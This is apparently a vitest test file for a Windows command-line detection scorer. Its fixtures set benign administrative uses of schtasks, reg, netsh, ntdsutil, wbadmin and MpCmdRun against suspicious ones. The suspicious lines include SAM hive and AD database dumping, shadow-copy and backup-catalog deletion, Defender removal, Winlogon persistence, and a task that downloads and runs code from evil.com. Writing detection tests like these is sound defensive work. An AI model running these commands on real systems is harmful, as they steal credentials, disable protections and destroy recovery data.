import { describe, expect, test } from 'vitest'
import { scoreLine } from '@/fixtures/detection/score-lines'
import { assessRisk } from '../risk'

function evidence(image: string, commandLine: string, parentImage: string): number {
  const scored = scoreLine({
    section: '',
    image: image.includes('\\') ? image : `C:\\Windows\\System32\\${image}`,
    originalFileName: null,
    commandLine,
    parentImage,
    parentCommandLine: null,
    user: null,
  })
  return scored === null ? Number.NaN : assessRisk(scored.signature, {}).evidence / 1000
}

const SHELL = 'C:\\Windows\\System32\\cmd.exe'
const INSTALLER = 'C:\\Windows\\System32\\msiexec.exe'

describe('evidence in bits, without whoever started it,', () => {
  test.each([
    ['schtasks.exe', 'schtasks /query /tn "\\Name"', SHELL, 0],
    ['schtasks.exe', 'schtasks /create /tn a /xml "C:\\Program Files\\Vendor\\task.xml"', INSTALLER, 0],
    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\Windows\\Temp\\task.xml', INSTALLER, 2],
    ['schtasks.exe', 'schtasks /create /tn a /tr "\\"C:\\Program Files\\Vendor\\a.exe\\" /u"', INSTALLER, 0],
    ['schtasks.exe', 'schtasks /create /tn a /tr C:\\ProgramData\\Vendor\\Agent\\bin\\a.exe', SHELL, 2.5],
    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\ProgramData\\Vendor\\App\\t.xml', SHELL, 0.5],
    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\Deploy\\t.xml', SHELL, 0.5],
    ['schtasks.exe', 'schtasks /create /tn a /tr "cmd /c shutdown /r /t 0"', SHELL, 0],
    ['schtasks.exe', 'schtasks /create /tn a /tr "powershell Restart-Service Spooler"', SHELL, 1],
    ['reg.exe', 'reg query HKLM\\SOFTWARE\\Vendor', SHELL, 0],
    ['reg.exe', 'reg import C:\\ProgramData\\a\\t.reg', SHELL, 0.5],
    ['reg.exe', 'reg delete "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /f', SHELL, 2],
    [
      'netsh.exe',
      'netsh advfirewall firewall add rule name=a dir=in action=allow program=C:\\ProgramData\\Vendor\\App\\b.exe',
      SHELL,
      1,
    ],
    ['reg.exe', 'reg import C:\\Deploy\\settings.reg', SHELL, 0.5],
    ['netsh.exe', 'netsh http add urlacl url=http://+:8080/ user=Everyone', SHELL, 0],
    ['netsh.exe', 'netsh advfirewall firewall add rule name=a dir=in action=allow localport=80', SHELL, 1],
    ['ntdsutil.exe', 'ntdsutil "metadata cleanup" quit', SHELL, 0],
    ['wbadmin.exe', 'wbadmin delete backup -keepVersions:5', SHELL, 0],
  ])('of everyday use is little: %s %s', (image, line, parent, bits) => {
    expect(evidence(image, line, parent)).toBe(bits)
  })

  test.each([
    ['schtasks.exe', 'schtasks /create /tn a /tr C:\\ProgramData\\a\\b.exe /ru SYSTEM', 3.5],
    ['schtasks.exe', 'schtasks /create /tn a /tr C:\\ProgramData\\b.exe', 5],
    ['reg.exe', 'reg save HKLM\\SAM C:\\a', 5],
    [
      'reg.exe',
      'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe,a.exe"',
      3,
    ],
    ['netsh.exe', 'netsh interface portproxy add v4tov4 8080 10.0.0.1 80', 3],
    [
      'netsh.exe',
      'netsh advfirewall firewall add rule name=a dir=in action=allow program=C:\\Users\\Public\\a.exe',
      2.5,
    ],
    ['ntdsutil.exe', 'ntdsutil "ac i ntds" ifm "create full c:\\a" q q', 5],
    ['wbadmin.exe', 'wbadmin delete catalog -quiet', 6],
    ['C:\\Program Files\\Windows Defender\\MpCmdRun.exe', 'MpCmdRun.exe -RemoveDefinitions -All', 4],
    [
      'C:\\Program Files\\Windows Defender\\MpCmdRun.exe',
      'MpCmdRun.exe -RemoveDefinitions -DynamicSignatures',
      2,
    ],
    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\ProgramData\\a\\t.xml', 2.5],
    ['schtasks.exe', 'schtasks /create /tn a /xml C:\\Users\\ann\\t.xml', 4],
    ['schtasks.exe', 'schtasks /create /tn a /tr "vssadmin delete shadows /all /quiet"', 7],
    [
      'schtasks.exe',
      'schtasks /create /tn a /tr "powershell -c iex(irm evil.com/a) -f C:\\Windows\\a.ps1"',
      3.5,
    ],
    [
      'netsh.exe',
      'netsh advfirewall firewall add rule name=a dir=in action=allow program=C:\\ProgramData\\a\\b.exe',
      2.5,
    ],
    [
      'reg.exe',
      'reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules /v a /d "v2.31|Action=Allow|Dir=In|"',
      2.5,
    ],
    ['reg.exe', 'reg delete "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features" /f', 4],
  ])('of what administration hardly does is much: %s %s', (image, line, bits) => {
    expect(evidence(image, line, SHELL)).toBe(bits)
  })
})
